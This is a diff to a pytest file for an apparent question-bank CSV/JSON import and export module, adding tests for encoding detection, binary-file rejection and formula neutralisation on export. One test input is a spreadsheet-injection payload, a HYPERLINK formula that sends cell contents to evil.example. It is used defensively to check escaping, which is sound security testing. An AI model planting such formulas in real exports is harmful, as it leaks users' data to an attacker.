@@ -1,6 +1,7 @@
 """Bank import/export: formats, validation, and all-or-nothing imports."""
 from __future__ import annotations
 
+import csv
 import io
 import json
 
@@ -99,7 +100,9 @@ BAD_FILES = [
     ("duplicate id", "csv", b"id,question,answer\nA,Q1?,a\nB,Q2?,b\nA,Q3?,c\n", "row 4: duplicate id 'A' (first seen at row 2)"),
     ("empty question", "csv", b"id,question,answer\nA,Q1?,a\nB,,b\n", "row 3: question is empty"),
     ("empty answer", "csv", b"id,question,answer\nA,Q1?,a\nB,Q2?,  \n", "row 3: answer is empty"),
-    ("undecodable text", "csv", b"id,question,answer\nA,Q1?,a\nB,Caf\xe9 question?,b\n", "line 3: text is not valid UTF-8"),
+    ("binary data", "csv", b"id,question,answer\n" + bytes(range(256)) * 16, "binary data, not text"),
+    ("UTF-32 text", "csv", "id,question,answer\nA,Q1?,a\n".encode("utf-32"), "UTF-32"),
+    ("UTF-32 without BOM", "csv", "id,question,answer\nA,Q1?,a\n".encode("utf-32-le"), "UTF-32"),
     ("megabyte cell", "csv", ("id,question,answer\nA,Q1?,a\nB,Q2?," + BIG + "\n").encode(), "row 3: answer has 2,000,000 characters"),
     ("bad short answer", "csv", b"id,question,answer,short_answer\nA,Q1?,a,Maybe\n", "row 2: short_answer 'Maybe' is not one of"),
     ("bad status", "csv", b"id,question,answer,status\nA,Q1?,a,published\n", "row 2: status 'published' is not one of"),
@@ -123,6 +126,47 @@ def test_a_bad_file_is_rejected_whole_and_the_bank_is_unchanged(bank, name, fmt,
         bank.import_entries(read_entries(io.BytesIO(data), fmt))
     assert message in str(err.value)
     assert snapshot(bank) == before
+
+
+BANK_TEXTS = {
+    "fr": [("FR-1", "Chiffrez-vous les données au repos ?", "Oui, toujours — AES-256."),
+           ("FR-2", "Avez-vous désigné un délégué à la protection des données ?", "Oui.")],
+    "ru": [("RU-1", "Шифруются ли данные при хранении?", "Да, всегда."),
+           ("RU-2", "Назначен ли ответственный за защиту данных?", "Да.")],
+}
+
+
+@pytest.mark.parametrize("lang, encoding, warned", [
+    ("fr", "utf-8", None), ("fr", "utf-8-sig", None), ("fr", "utf-16", None),
+    ("fr", "cp1252", "Windows-1252"), ("ru", "cp1251", "Windows-1251"),
+])
+def test_csv_import_decodes_every_encoding_and_names_an_inferred_one(lang, encoding, warned):
+    """One decoder for every CSV (issue 9): a code-page file is read, not
+    refused or garbled, and the user is told which encoding was assumed."""
+    rows = BANK_TEXTS[lang]
+    text = "id,question,answer\n" + "".join(f'{i},{q},"{a}"\n' for i, q, a in rows)
+    warnings: list[str] = []
+    entries = read_entries(io.BytesIO(text.encode(encoding)), "csv", warnings)
+    assert [(e.ext_id, e.question, e.answer) for e in entries] == rows
+    if warned:
+        assert len(warnings) == 1 and warned in warnings[0]
+    else:
+        assert warnings == []
+
+
+@pytest.mark.parametrize("answer", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 555 0100", "-42",
+                                    "@SUM(A1:A9)", "\tTabbed", "'=already quoted"])
+def test_csv_export_neutralises_formulas_and_import_restores_the_raw_text(bank, answer):
+    """Issue 9: `bank export` wrote =HYPERLINK(...) raw into CSV; a spreadsheet
+    opening the export must show text. The bank keeps the raw answer, and an
+    export re-imports to the same text."""
+    entry = BankEntry(ext_id="F-1", question="Do you link to your policy?", answer=answer)
+    out = io.BytesIO()
+    write_entries([entry], out, "csv")
+    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
+    cell = rows[1][rows[0].index("answer")]
+    assert cell == "'" + answer
+    assert read_entries(io.BytesIO(out.getvalue()), "csv")[0].answer == answer.strip()
 
 
 def test_a_failure_inside_the_transaction_rolls_back_every_row(bank, monkeypatch):
